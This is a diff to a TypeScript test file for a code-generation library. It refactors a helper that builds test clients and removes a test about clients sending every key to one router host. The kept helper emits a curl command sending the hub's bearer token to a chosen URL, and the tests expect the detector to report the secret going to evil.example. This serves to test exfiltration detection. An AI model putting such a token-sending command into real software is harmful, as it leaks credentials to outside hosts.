@@ -11,14 +11,13 @@ import {
   type Plugin,
   isAbsence,
 } from "hubsmith";
-import { type Code, env, type Hole, sh, text, type Value } from "hubsmith/code";
+import { env, type Hole, sh, text, type Value } from "hubsmith/code";
 import type { Env } from "hubsmith/language";
 import { entries } from "hubsmith/plugins";
 import { prepareCases } from "./cases.ts";
 import { ENDPOINTS, HUB_IDS, IDS } from "./hostile.ts";
 import { prove } from "./judge.ts";
-import { HOSTS, ROUTER_HOST, type Target } from "./routes.ts";
-import { checkTargets } from "./targets.ts";
+import { HOSTS, ROUTER_HOST } from "./routes.ts";
 
 let plugins: readonly Plugin[];
 beforeAll(async () => {
@@ -60,23 +59,19 @@ test("a hostile string is neither a provider nor a task", () => {
   }
 });
 
-function clientWith(name: string, print: (call: Call) => Code<"sh">): Plugin {
-  return defineClient({
+/** A client that sends its key to a custom URL, with curl. */
+const sendsTo = (name: string, url: (call: Call) => Hole<"sh">): Plugin =>
+  defineClient({
     id: `sh/${name}`,
     label: name,
     language: sh.language,
     order: 9,
     refuses: ({ request }) => (isAbsence(request) ? request : undefined),
     templates: [],
-    fallback: print,
-  });
-}
-
-/** A client that sends its key to a custom URL, with curl. */
-const sendsTo = (name: string, url: (call: Call) => Hole<"sh">): Plugin =>
-  clientWith(name, (call) => {
-    const key = text("Authorization: Bearer ", call.token as Env | string);
-    return sh`curl -gsS ${url(call)} -H ${key} -d '{}'`;
+    fallback: (call) => {
+      const key = text("Authorization: Bearer ", call.token as Env | string);
+      return sh`curl -gsS ${url(call)} -H ${key} -d '{}'`;
+    },
   });
 
 const ROUTER = `https://${ROUTER_HOST}`;
@@ -111,19 +106,4 @@ describe("a client", () => {
   test.each(["id", "parameter", "variable"])("that reads its URL from the %s is found", (by) => {
     expect(faults.get(`sh/${by}`)).toContain("It sent the secret of the hub to evil.example.");
   });
-});
-
-test("a client that sends every key to one host is found", () => {
-  const client = clientWith(
-    "one-host",
-    ({ token }) => sh`curl ${`${ROUTER}/v1`} -H ${text("X-Key: ", token as Env | string)}`,
-  );
-  const { faults } = checkTargets(hubOf(client));
-  const about = (provider: string, target: Target): string =>
-    faults
-      .filter((fault) => fault.startsWith(`${provider} |`) && fault.includes(`| ${target} |`))
-      .join();
-  expect(about("together", "direct")).toContain("the program names router.huggingface.co");
-  expect(about("hf-inference", "endpoint")).toContain("the program names router.huggingface.co");
-  expect(about("together", "routed")).toBe("");
 });
